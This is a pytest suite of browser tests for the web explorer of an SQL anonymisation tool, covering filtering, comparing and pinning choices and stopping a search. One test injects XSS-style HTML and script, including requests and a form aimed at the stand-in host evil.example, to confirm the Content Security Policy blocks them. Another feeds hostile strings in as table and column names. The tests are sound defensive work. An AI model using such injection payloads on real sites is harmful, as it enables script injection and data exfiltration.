"""The explorer in a real browser: look, filter, click, compare, pin, stop; what is refused."""

from __future__ import annotations

import contextlib
import json
import os
import random
import re
import subprocess
import sys
from typing import TYPE_CHECKING, Any

import pytest
from browsing import NARROW, WIDE
from engines import SQLitePlace
from hostile import HOSTILE
from sql_scenarios import COLUMNS, ROWS

from sqlanon.report.wording import visible

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from browsing import Window

TEXT = """\
source: people   # a census
columns:
  age: {role: quasi, hierarchy: {intervals: [10]}}
  zip: {role: quasi, hierarchy: {mask: {steps: [1, 2]}}}
  illness: {role: sensitive}
unlisted: drop
privacy: [{k_anonymity: {k: 2}}]
algorithm: optimal   # for now
max_suppression: 0.2
target: {table: released, if_exists: replace}
"""
PATIENCE = 30_000
"""Milliseconds after which a page that does not come will not come."""


@contextlib.contextmanager
def served(folder: Path, url: str, text: str) -> Iterator[tuple[str, Path]]:
    """The address of `sqlanon explore` of a job, and the file that it stands in."""
    file = folder / "job.yaml"
    file.write_text(text)
    command = [sys.executable, "-m", "sqlanon", "explore", str(file), "--url", url]
    environment = {key: said for key, said in os.environ.items() if key != "PYTHONUNBUFFERED"}
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True, env=environment) as server:
        try:
            assert server.stdout is not None
            yield server.stdout.readline().strip(), file
        finally:
            server.terminate()
            assert server.wait(30) == 0


def loaded(folder: Path, table: str, columns: dict[str, str], rows: list[tuple[Any, ...]]) -> str:
    """The URL of a database with a table."""
    place = SQLitePlace(folder)
    place.load(table, columns, rows)
    return place.url


@pytest.fixture
def explorer(tmp_path: Path) -> Iterator[tuple[str, Path]]:
    url = loaded(tmp_path, "people", dict(COLUMNS), list(ROWS))
    with served(tmp_path, url, TEXT) as found:
        yield found


COUNTED = re.compile(r"^[0-9]+ level vectors")
"""The heading of the lattice, and not of the page that says that it is being counted."""


def arrived(window: Window, heading: str | re.Pattern[str]) -> None:
    """Wait for a page with such a heading."""
    window.page.get_by_role("heading", name=heading).first.wait_for(timeout=PATIENCE)


@pytest.mark.parametrize(("width", "scheme"), [(WIDE, "light"), (NARROW, "dark")])
def test_it_is_looked_at_filtered_compared_and_pinned(
    explorer: tuple[str, Path],
    opened: Callable[..., Window],
    violations: Callable[[Window], list[str]],
    width: int,
    scheme: str,
) -> None:
    address, file = explorer
    window = opened(width=width, scheme=scheme)
    seen, page = opened(width=width, scheme=scheme, trusted=True), window.page

    def sound() -> None:
        """What holds on every page: nothing is cut off, and everybody can read it."""
        assert window.overflow() == 0, page.url
        seen.page.goto(page.url)
        seen.page.locator("meta[http-equiv=refresh]").wait_for(state="detached", timeout=PATIENCE)
        assert violations(seen) == [], page.url

    page.goto(address)
    arrived(window, "12 level vectors")
    assert page.locator("svg.lattice circle").count() == 12
    sound()
    page.get_by_label("level vectors").first.select_option("yes")
    page.get_by_role("button", name="Show").click()
    page.wait_for_url(re.compile("show=yes"), timeout=PATIENCE)
    arrived(window, COUNTED)
    rows = page.locator(".lattice-table tbody tr")
    assert 2 <= rows.count() < 12
    assert all(one == "yes" for one in rows.locator("td:nth-child(2)").all_text_contents())

    page.locator("svg.lattice circle.yes").first.dispatch_event("click")
    page.get_by_role("link", name="Put it into the job file").wait_for(timeout=PATIENCE)
    sound()
    page.get_by_role("link", name="All choices").click()
    arrived(window, COUNTED)

    names = [one.get_attribute("value") for one in page.locator('input[name="a"]').all()]
    first, second = names[:2]
    page.locator(f'input[name="a"][value="{first}"]').check()
    page.locator(f'input[name="b"][value="{second}"]').check()
    page.get_by_role("button", name="Compare the two").click()
    page.wait_for_url(re.compile(rf"compare.*a={first}.*b={second}"), timeout=PATIENCE)
    page.get_by_role("link", name="All choices").wait_for(timeout=PATIENCE)
    sound()

    before = file.read_text()
    page.goto(f"{address}choice?choice={first}")
    page.get_by_role("link", name="Put it into the job file").click(timeout=PATIENCE)
    arrived(window, "Put ")
    assert page.locator("pre.diff span").count() > 2
    assert file.read_text() == before
    sound()
    page.get_by_role("button", name="Write ").click()
    arrived(window, "was written")
    written = file.read_text()
    assert "fixed: {levels: {" in written
    assert "# a census" in written
    assert written != before
    port = re.match(r"http://127\.0\.0\.1:\d+/", address)
    assert port is not None
    assert all(one.startswith(port[0]) for one in window.asked)
    assert not window.said, "the console of the browser complains"


def test_a_search_is_stopped_and_says_so(tmp_path: Path, opened: Callable[..., Window]) -> None:
    drawn = random.Random(7)  # noqa: S311 - no secret
    names = [f"q{place}" for place in range(6)]
    rows = [tuple(drawn.randrange(1000) for _ in names) for _ in range(3000)]
    url = loaded(tmp_path, "people", dict.fromkeys(names, "integer"), rows)
    columns = "\n".join(
        f"  {name}: {{role: quasi, hierarchy: {{intervals: [10, 50, 100, 500]}}}}" for name in names
    )
    job = f"source: people\ncolumns:\n{columns}\nprivacy: [{{k_anonymity: {{k: 5}}}}]\n"
    with served(tmp_path, url, f"{job}algorithm: optimal\n") as (address, _):
        window = opened()
        window.page.goto(address)
        window.page.get_by_role("button", name="Stop").click(timeout=PATIENCE)
        # with what was counted until then, or before there was anything
        window.page.get_by_text("was stopped").first.wait_for(timeout=PATIENCE)
        again = window.page.get_by_role("link", name=re.compile("count all|Try again"))
        assert again.is_visible()


def test_nobody_else_is_asked_and_no_script_runs(
    explorer: tuple[str, Path], opened: Callable[..., Window]
) -> None:
    """What would stand on the page if something hostile got into it is not carried out."""
    address, _ = explorer
    window = opened()
    window.page.goto(address)
    arrived(window, "12 level vectors")
    window.asked.clear()
    broken: list[str] = window.page.evaluate(
        """async () => {
          const found = [];
          addEventListener("securitypolicyviolation", e => found.push(e.effectiveDirective));
          document.body.insertAdjacentHTML("beforeend",
            `<img src="//evil.example/x"><img src=x onerror="alert(1)">
             <style>p { color: red }</style>
             <p style="color: red" onclick="alert(2)" id="hostile">x</p>
             <form action="//evil.example/y" id="away"></form>`);
          const script = document.createElement("script");
          script.textContent = "alert(3)";
          document.body.append(script);
          document.getElementById("hostile").click();
          document.getElementById("away").submit();
          await fetch("//evil.example/z").catch(() => {});
          await new Promise(done => setTimeout(done, 500));
          return found;
        }"""
    )
    assert {"img-src", "script-src-elem", "script-src-attr", "style-src-attr"} <= set(broken)
    assert {"style-src-elem", "form-action", "connect-src"} <= set(broken)
    assert window.dialogs == window.asked == []


def test_hostile_names_and_labels_are_text(tmp_path: Path, opened: Callable[..., Window]) -> None:
    """Every one as a column, a value, a label of a hierarchy, a table and in the job's text."""
    hostile = [one for one in HOSTILE if one.isprintable()]
    assert len(hostile) > 40
    table, *others = ("".join(hostile[n::4]) for n in range(4))
    rows = [(others[0] + str(n % 2), others[1] + str(n % 3)) for n in range(24)]
    columns = [f"{name} {n}" for n, name in enumerate(others[:2])]
    url = loaded(tmp_path, table, dict.fromkeys(columns, "text"), rows)
    labels = {others[2]: sorted({row[0] for row in rows})}
    job = {
        "source": table,
        "columns": {
            columns[0]: {"role": "quasi", "hierarchy": {"taxonomy": labels}},
            columns[1]: {"role": "quasi", "hierarchy": {"flat": True}},
        },
        "privacy": [{"k_anonymity": {"k": 4}}],
        "algorithm": "optimal",
    }
    with served(tmp_path, url, json.dumps(job, ensure_ascii=False)) as (address, _):
        window = opened()
        window.page.goto(address)
        arrived(window, COUNTED)
        for text in (table, *columns):
            assert visible(text) in window.text()
        window.page.goto(f"{address}choice?choice=1.0")
        window.page.get_by_role("link", name="Put it into the job file").wait_for(timeout=PATIENCE)
        for text in (others[2], others[1]):
            assert visible(text) in window.text()
        window.page.get_by_role("link", name="Put it into the job file").click()
        arrived(window, "Put ")
        assert window.dialogs == []
        assert all(one.startswith("http://127.0.0.1:") for one in window.asked)
        assert not window.said
